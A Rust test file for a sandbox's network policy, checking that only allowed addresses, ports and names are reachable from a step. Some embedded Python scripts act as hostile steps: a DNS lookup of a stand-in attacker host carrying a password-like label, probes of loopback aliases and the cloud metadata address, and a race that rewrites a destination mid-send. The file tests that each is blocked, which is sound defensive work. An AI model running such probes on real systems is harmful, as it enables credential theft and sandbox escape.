//! What the policy allows is relayed in cells without namespaces too: by the host, over the agent's channel, to a door at
//! loopback that only the step's own socket comes through. The servers and helpers are those of `relay.rs`.

use super::harness::{Fixture, Ran};
use super::relay::{Server, allow, open, own, python, resolver, told};
use firsttry::cell::{Here, Resolving};
use firsttry::frame::Verdict;
use std::net::{TcpListener, TcpStream};
use std::time::Duration;

fn run(fixture: Fixture) -> Ran {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(fixture.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    fixture.run_in(&Here::default())
}

#[test]
fn an_allowed_address_is_reached_on_its_port_and_every_other_port_is_a_violation() {
    let (allowed, other) = (Server::echo(), Server::echo());
    let script = format!(
        "attempt(lambda: ask('{0}', {1}))\nattempt(lambda: ask('{0}', {2}))",
        allowed.ip(),
        allowed.port(),
        other.port()
    );
    let ran = run(allow(python(&script), &[allowed.at.to_string()]));
    assert_eq!(ran.passed(), "hello\nENETUNREACH\n");
    assert_eq!((allowed.count(), other.count()), (1, 0));
    assert_eq!(told(&ran, Verdict::Allowed), [format!("connect tcp {}", allowed.at)]);
    assert_eq!(told(&ran, Verdict::Denied), [format!("connect tcp {}", other.at)]);
    // The control: both are there for whoever may.
    let ran = run(allow(python(&script), &[allowed.at.to_string(), other.at.to_string()]));
    assert_eq!(ran.passed(), "hello\nhello\n");
    assert_eq!((allowed.count(), other.count()), (2, 1));
}

#[test]
fn a_name_is_resolved_by_the_host_where_it_is_allowed() {
    let server = Server::echo();
    let script = format!(
        "attempt(lambda: ask('service.test', {}))\nattempt(lambda: socket.gethostbyname('hunter2.attacker.example'))",
        server.port()
    );
    let (resolver, asked) = resolver(&[("service.test", &server.ip().to_string())]);
    let cell = Resolving { cell: Here::default(), resolver };
    let hosts = [format!("service.test:{}", server.port()), server.at.to_string()];
    let fixture = allow(python(&script), &hosts);
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(fixture.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let ran = fixture.run_in(&cell);
    assert_eq!(ran.passed(), "hello\nno name\n");
    assert_eq!(
        told(&ran, Verdict::Allowed),
        ["lookup dns :0 service.test".to_owned(), format!("connect tcp {} service.test", server.at)]
    );
    assert_eq!(told(&ran, Verdict::Denied)[0], "lookup dns :0 hunter2.attacker.example");
    assert!(asked.lock().unwrap().iter().all(|name| name == "service.test"));
}

#[test]
fn an_open_cell_reaches_everything_but_the_machine_itself_and_its_credentials() {
    let (outside, inside) = (Server::echo(), TcpListener::bind("127.0.0.1:0").unwrap());
    inside.set_nonblocking(true).unwrap();
    let script = format!(
        "attempt(lambda: ask('{}', {}))
for host in ['127.0.0.1', '127.0.0.2', '::ffff:127.0.0.1', '0.0.0.0', '169.254.169.254', 'fd00:ec2::254', '64:ff9b::7f00:1', '2002:7f00:1::']:
    attempt(lambda: ask(host, {}))",
        outside.ip(),
        outside.port(),
        inside.local_addr().unwrap().port()
    );
    let ran = run(open(python(&script)));
    let expected = ["hello"].into_iter().chain(["ECONNREFUSED"; 4]).chain(["ENETUNREACH"; 4]).collect::<Vec<_>>();
    assert_eq!(ran.passed().lines().collect::<Vec<_>>(), expected);
    assert_eq!(outside.count(), 1);
    assert!(inside.accept().is_err());
    assert_eq!(told(&ran, Verdict::Denied).len(), 4);
    // The control: from outside the very same listener is there.
    assert!(TcpStream::connect(inside.local_addr().unwrap()).is_ok() && inside.accept().is_ok());
}

#[test]
fn a_connection_is_an_ordinary_socket() {
    let server = Server::echo();
    let script = format!(
        "import asyncio, select
target = ('{}', {})
s = socket.create_connection(target, 20)
assert s.getpeername() == target, s.getpeername()
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.close()
# Non-blocking, watched before it is connected, as event loops do.
s = socket.socket(); s.setblocking(False)
poll = select.epoll(); code = s.connect_ex(target); poll.register(s, select.EPOLLOUT)
assert code in (0, errno.EINPROGRESS), code
assert poll.poll(10) and s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
assert s.getpeername() == target
# A mapped address, a bound one, and a duplicate of the descriptor.
s = socket.socket(socket.AF_INET6); s.connect(('::ffff:' + target[0], target[1])); s.send(b'm'); assert s.recv(1) == b'm'
s = socket.socket(); s.bind(('127.0.0.1', 0)); d = s.dup(); s.connect(target); d.send(b'd'); assert s.recv(1) == b'd'
s = socket.socket(); attempt(lambda: s.sendto(b'fast', socket.MSG_FASTOPEN, target))
attempt(lambda: socket.socket().getpeername())
async def main():
    async def one(n):
        r, w = await asyncio.open_connection(*target)
        w.write(b'%d' % n); await w.drain(); got = await r.read(10); w.close(); return int(got)
    print(sum(await asyncio.gather(*[one(n) for n in range(100)])))
asyncio.run(main())
l = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(l.getsockname()); assert c.getpeername() == l.getsockname(); print('own')",
        server.ip(),
        server.port()
    );
    let ran = run(allow(python(&script), &[server.at.to_string()]));
    assert_eq!(ran.passed(), "ENOTSUP\nENOTCONN\n4950\nown\n");
    assert_eq!(server.count(), 104);
    // The kernel of the step connects to a door at loopback, and its server sees the host.
    assert_eq!(told(&ran, Verdict::Denied), [""; 0]);
}

#[test]
fn what_the_host_is_told_the_step_is_told() {
    let free = TcpListener::bind((own(), 0)).unwrap().local_addr().unwrap();
    let reset = Server::tcp(|socket| rustix::net::sockopt::set_socket_linger(&socket, Some(Duration::ZERO)).unwrap());
    let script = format!(
        "host = '{}'
attempt(lambda: ask(host, {}))
def reset():
    with socket.create_connection((host, {}), 20) as s:
        return s.recv(10)
attempt(reset)",
        own(),
        free.port(),
        reset.port()
    );
    let ran = run(allow(python(&script), &[own().to_string()]));
    assert_eq!(ran.passed(), "ECONNREFUSED\nECONNRESET\n");
    assert_eq!(told(&ran, Verdict::Denied), [""; 0]);
    assert_eq!(reset.count(), 1);
}

#[test]
fn datagrams_go_where_they_may_and_come_back() {
    let (server, other) = (Server::udp(), Server::udp());
    // Answers to a socket that is not connected come from a place at loopback: said in the README.
    let script = format!(
        "host, port, other = '{}', {}, {}
udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s = udp(); s.settimeout(5); s.connect((host, port))
t = udp(); t.settimeout(5); t.connect((host, port))
for i in range(50):
    s.send(b's%d' % i); t.send(b't%d' % i)
    assert s.recv(10) == b's%d' % i and t.recv(10) == b't%d' % i
print(s.getpeername() == (host, port))
u = udp(); u.settimeout(5); u.sendto(b'x' * 60000, (host, port)); print(u.recv(65535) == b'x' * 60000)
print(u.sendmsg([b'a', b'b'], [], 0, (host, port)), u.recv(10))
attempt(lambda: udp().sendto(b'x', (host, other)))",
        server.ip(),
        server.port(),
        other.port()
    );
    let ran = run(allow(python(&script), &[server.at.to_string()]));
    assert_eq!(ran.passed(), "True\nTrue\n2 b'ab'\nENETUNREACH\n");
    assert_eq!(other.count(), 0);
    assert_eq!(told(&ran, Verdict::Denied), [format!("sendto udp {}", other.at)]);
    let ran = run(allow(python(&script), &[server.at.to_string(), other.at.to_string()]));
    assert!(ran.passed().ends_with("1\n"));
}

#[test]
fn megabytes_go_each_way() {
    let server = Server::echo();
    let script = format!(
        "s = socket.create_connection(('{}', {}), 20); got = 0
def send():
    for _ in range(64): s.sendall(bytes(1 << 20))
    s.shutdown(socket.SHUT_WR)
threading.Thread(target=send).start()
while piece := s.recv(1 << 20): got += len(piece)
print(got >> 20)",
        server.ip(),
        server.port()
    );
    assert_eq!(run(allow(python(&script), &[server.at.to_string()])).passed(), "64\n");
}

/// Addresses that are rewritten while they are looked at: the one allowed and one refused.
#[test]
fn an_address_that_changes_while_it_is_looked_at_leads_nowhere_else() {
    let (allowed, other) = (Server::udp(), Server::udp());
    let script = format!(
        "import ctypes, struct
libc = ctypes.CDLL(None)
address = lambda p: bytearray(struct.pack('=HH4s8x', 2, socket.htons(p), socket.inet_aton('{}')))
good, bad = bytes(address({})), bytes(address({}))
shared = (ctypes.c_char * 16).from_buffer(bytearray(good))
stop = False
def flip():
    while not stop: shared.raw = bad; shared.raw = good
flipper = threading.Thread(target=flip); flipper.start()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sys.setswitchinterval(1e-6)
for n in range(100000): libc.sendto(s.fileno(), b'x', 1, 0x40, shared, 16)
stop = True; flipper.join(); print(n + 1)",
        own(),
        allowed.port(),
        other.port()
    );
    let fixture = allow(python(&script), &[allowed.at.to_string()]).with(|_, m| m.timeout_ms = 300_000);
    let ran = run(fixture);
    assert_eq!(ran.passed(), "100000\n");
    assert_eq!(other.count(), 0);
    assert!(allowed.count() > 0, "the allowed one is reached");
    assert!(!told(&ran, Verdict::Denied).is_empty(), "both were seen");
}
